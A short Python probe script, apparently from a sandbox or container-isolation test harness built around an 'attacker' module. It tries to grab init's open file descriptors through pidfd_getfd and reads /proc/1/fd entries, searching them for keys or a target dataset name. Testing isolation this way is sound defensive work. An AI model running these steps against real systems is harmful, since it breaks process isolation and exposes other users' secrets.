"""Take the init's open files: its orders, its stream, the log of others."""

import os

from attacker import PLAN, attempt, call, gained

for number in range(16):
    with attempt():
        handle = os.pidfd_open(1)
        call("pidfd_getfd", handle, number, 0)
        gained(f"descriptor {number}")
for number in (0, 3, 4, 5):
    with attempt():
        descriptor = os.open(f"/proc/1/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
        content = os.read(descriptor, 4096)
        if b"key" in content or PLAN["own_dataset"].encode() in content:
            gained(content)
